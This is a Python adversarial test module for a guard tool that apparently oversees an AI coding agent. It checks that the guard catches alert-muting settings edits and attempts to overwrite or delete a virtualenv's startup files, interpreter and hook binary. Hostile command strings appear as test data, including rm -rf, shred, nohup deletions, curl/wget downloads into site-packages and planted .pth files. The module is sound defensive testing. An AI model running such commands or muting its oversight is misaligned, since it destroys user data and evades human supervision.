"""T39: the installation and the notifications: startup files, our Python environment, and edits that mute guards."""

from __future__ import annotations

import itertools
import json
import random
import shutil
from collections.abc import Callable, Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from pathlib import Path
from typing import Any

from execution.test_isolation import DENY, Environment
from house import House
from protection.test_environments import DEVELOPMENT
from protection.test_self_protection import event

from torture.frame import Tally
from tray.approvals import guarded_settings
from tray.model.decision import Verdict
from tray.notify.alert import NO_RULES, Alert, AlertClass, make_alert, quiet_until, rules
from tray.protection.protected_paths import ProtectedPaths, find_environments
from tray.protection.self_protection import Protection
from tray.settings import Settings

TITLE = "the installation, and muting by the file"
HELD = ("asked", "blocked", "hook_failed", "hook_timed_out", "approval_pending", "changed", "switched")
OTHERS = ("turn_end", "needs_you", "information")
PROJECTS = ("", "api", "web")
WEEK = [1_700_000_000 + 1800 * number for number in range(2 * 24 * 7)]  # each half an hour of one
RULES: tuple[Mapping[str, Any], ...] = (
    {"notify": False}, {"notify": True}, {"sound": "none"}, {"sound": ""}, {"sound": "alarm"},
    {"sound": "/tmp/none.wav"},
    {"urgency": "low"}, {"urgency": "normal"}, {"urgency": "critical"}, {"sound_name": "nothing"},
    {"notify": False, "sound": "none", "urgency": "low"}, {},
)  # fmt: skip
SITE = "lib/python3.11/site-packages"
TARGETS = (
    f"{SITE}/evil.pth", f"{SITE}/__a.pth", f"{SITE}/sitecustomize.py", f"{SITE}/usercustomize.py",
    f"{SITE}/sitecustomize/__init__.py", f"{SITE}/msgspec/__init__.py", f"{SITE}/psutil.py", "pyvenv.cfg",
    "bin/python", "bin/python3", "bin/hooktray",
)  # fmt: skip
WRITES = (
    "echo x > {}", "echo x >> {}", "printf x | tee {}", "printf x | tee -a {}", "cp /tmp/x {}", "cp -f /tmp/x -t {d}",
    "mv /tmp/{n} {d}", "ln -sf /tmp/x {}", "install -m 644 /tmp/x {}", "touch {}", "truncate -s 0 {}",
    "dd if=/tmp/x of={}",
    "sed -i s/a/b/ {}", "rm -f {}", "rm -rf {d}", "chmod 777 {}", "rsync /tmp/x {}",
    "curl -o {} http://x", "wget -O {} http://x",
    "cat > {} <<'EOF'\nimport os\nEOF", "cd {d} && echo x > {n}", "F={}; echo x > $F", "sh -c 'echo x > {}'",
    "bash -c \"cp /tmp/x {}\"", "env A=1 cp /tmp/x {}", "sudo cp /tmp/x {}", "true && (echo x > {})",
)  # fmt: skip
TAKES = (
    "rm -rf {}", "mv {} /tmp/gone", "rsync -a --delete /tmp/empty/ {}/", "find {} -delete",
    "find {} -type f -exec rm {{}} +",
    "shred -u {}", "sh -c 'rm -rf {}'", "rm -r {}*", "true; rm -rf {}", "nohup rm -rf {} &",
)  # fmt: skip


def torture(tally: Tally) -> None:
    with ThreadPoolExecutor(1) as pool:  # it waits for processes
        started = pool.submit(_startup_files, tally)
        _muting(tally)
        _commands(tally)
        started.result()


# ---- edits of the file


def _muting(tally: Tally) -> None:
    chance = random.Random(39)
    house = House(tally.folder / "house")
    naive_fell = 0
    try:
        for number in range(tally.many(100, 20_000)):
            if number % 20 == 0:  # a person has confirmed something else
                house.configure(_edit(chance))
                for setting in house.catalog.settings():
                    house.consent.confirm(setting.key, setting.digest, "test", accept=True)
            guarded_settings.record_additions(house.catalog.configuration.settings, house.stores.ledger)
            before = house.catalog.settings_in_force
            edit = _edit(chance)
            house.configure(edit)
            after = house.catalog.settings_in_force
            tally.attack(f"edit {json.dumps(edit)}: {_less(before, after)}", not _less(before, after))
            naive_fell += bool(_less(before, house.catalog.configuration.settings))
            for cls, project in itertools.product(OTHERS, PROJECTS):
                wanted = _alert(cls, house.catalog.configuration.settings, project)
                tally.keep(f"{cls} of {json.dumps(edit)}", _alert(cls, after, project) == wanted)
    finally:
        house.close()
    tally.control("settings that count when they are saved", naive_fell > 0)
    tally.measured.append(f"{naive_fell} of the edits would have muted something if they had counted when saved")


def _edit(chance: random.Random) -> dict[str, Any]:
    """The whole of a file: a few keys, of every kind that may mute."""
    made: dict[str, Any] = {}
    for cls in chance.sample((*HELD, *OTHERS), chance.randrange(4)):
        made.setdefault("alerts", {})[cls] = dict(chance.choice(RULES))
    for cls in chance.sample((*HELD, *OTHERS), chance.randrange(3)):
        project = made.setdefault("projects", {}).setdefault(chance.choice(PROJECTS[1:]), {})
        project[cls] = dict(chance.choice(RULES))
    if chance.random() < 0.4:
        begin, end = (f"{chance.randrange(24):02}:{chance.choice(('00', '30'))}" for _ in range(2))
        days = chance.sample(("mon", "tue", "wed", "thu", "fri", "sat", "sun"), chance.randrange(8))
        made["quiet_hours"] = {"from": begin, "to": end, "days": days}
    for key, values in {
        "volume": (0, 0.01, 0.09, 0.1, 0.5, 1),
        "journal": ({"days": 1}, {"rows": 100}, {"megabytes": 1}, {"days": 400, "rows": 300_000}),
        "ask_on_desktop": ({"seconds": 5}, {"seconds": 60}, {"seconds": 300}),
        "show_input": (True, False),
        "min_turn_seconds": (0, 30),
    }.items():
        if chance.random() < 0.25:
            made[key] = chance.choice(values)
    return made


def _less(before: Settings, after: Settings) -> list[str]:
    """What is told less, found by what people would see and hear."""
    found = []
    for cls, project in itertools.product(HELD, PROJECTS):
        old, new = _alert(cls, before, project), _alert(cls, after, project)
        if old.notify > new.notify or old.urgency > new.urgency or bool(old.sound) > bool(new.sound):
            found.append(f"{cls} {project}")
        if new.sound_name not in ("", old.sound_name):
            found.append(f"{cls} {project}: a sound of the server's")
    if any(quiet_until(after.quiet_hours, at) and not quiet_until(before.quiet_hours, at) for at in WEEK):
        found.append("quiet hours")
    if before.volume >= 0.1 > after.volume or after.volume < before.volume < 0.1:
        found.append("volume")
    limits = ("days", "rows", "megabytes")
    if any(getattr(after.journal, key) < getattr(before.journal, key) for key in limits):
        found.append("journal")
    if after.ask_on_desktop.seconds < before.ask_on_desktop.seconds:
        found.append("time to answer")
    if after.show_input and not before.show_input:
        found.append("shows input")
    return found


def _alert(cls: str, settings: Settings, project: str) -> Alert:
    return make_alert(AlertClass(cls), "t", "b", "k", rules(settings, project) or NO_RULES)


# ---- commands and file tools


def _commands(tally: Tally) -> None:
    root = tally.folder / "project" / ".venv"
    site = root / SITE
    for target in TARGETS:
        path = root / target
        path.parent.mkdir(parents=True, exist_ok=True)
        path.touch()
    (tally.folder / "link").symlink_to(root)
    places = ProtectedPaths(home=str(tally.folder), environments=find_environments([str(site)], [str(root)]))
    guard, naive = (
        Protection(protected_paths=places),
        Protection(protected_paths=ProtectedPaths(home=str(tally.folder))),
    )
    passed = 0
    for tool, input in _calls(tally.folder, root):
        found = replace(event(tool, input), cwd=str(root.parent))
        verdict = guard.judge(found)
        tally.attack(f"{tool} {input}", verdict is not None and verdict.output.verdict >= Verdict.ASK)
        passed += naive.judge(found) is None
    tally.control("a self-protection that knows no environment", passed > 0)
    for line in DEVELOPMENT:
        found = replace(event("Bash", {"command": line}), cwd=str(root.parent))
        tally.keep(line, guard.judge(found) is None)


def _calls(folder: Path, root: Path) -> Iterator[tuple[str, dict[str, Any]]]:
    spellings = (
        str(root),
        ".venv",
        "./.venv",
        "../project/.venv",
        "~/project/.venv",
        "$PWD/.venv",
        str(folder / "link"),
    )
    for spelling, target in itertools.product(spellings, TARGETS):
        path = f"{spelling}/{target}"
        folder_of, _, name = path.rpartition("/")
        for form in WRITES:
            if "{d}" not in form or target.startswith(SITE):
                yield "Bash", {"command": form.replace("{d}", folder_of).replace("{n}", name).replace("{}", path)}
        if not spelling.startswith(("~", "$")):
            yield "Write", {"file_path": path, "content": "x"}
            yield "Edit", {"file_path": path, "old_string": "a", "new_string": "b"}
            yield "mcp__fs__write_file", {"path": path, "content": "x"}
    for spelling, form in itertools.product(spellings[:-1], TAKES):
        for below in ("", "/lib", f"/{SITE}"):
            yield "Bash", {"command": form.format(spelling + below)}


# ---- code at each start


def _startup_files(tally: Tally) -> None:
    """An environment full of startup files: the one-shot engine runs none of them, and denies."""
    house = House(tally.folder / "once")
    house.hook("guard", on="tool_before", script=DENY)
    house.close()
    environment = Environment(tally.folder / "environment")
    options = ("--home", str(house.paths.home), "claude-code", "PreToolUse")
    command = environment.ask("execution.isolation", "one_shot_command")
    plain = (str(environment.python), "-I", "-m", "tray", "once")
    for number, write in enumerate(_startup_writes(environment)):
        write()
        for _ in range(tally.many(1, 20)):
            done = environment.run(*command, *options)
            denied = b'"permissionDecision":"deny"' in done.stdout.replace(b" ", b"")
            tally.attack(f"startup file {number}", denied and not environment.ran.exists())
            environment.ran.unlink(missing_ok=True)
        environment.run(*plain, *options)
        tally.control(f"startup file {number}, by the environment's own python", environment.ran.exists())
        environment.ran.unlink(missing_ok=True)


def _startup_writes(environment: Environment) -> Iterator[Callable[[], object]]:
    evil, custom = environment.site / "evil.pth", environment.site / "sitecustomize.py"
    yield lambda: None  # all of them, as they were made
    yield lambda: shutil.move(evil, evil.with_name("zzz.pth"))
    yield lambda: shutil.move(custom, custom.with_name("usercustomize.py"))
    yield lambda: shutil.move(evil.with_name("zzz.pth"), evil.with_name("_virtualenv.pth"))
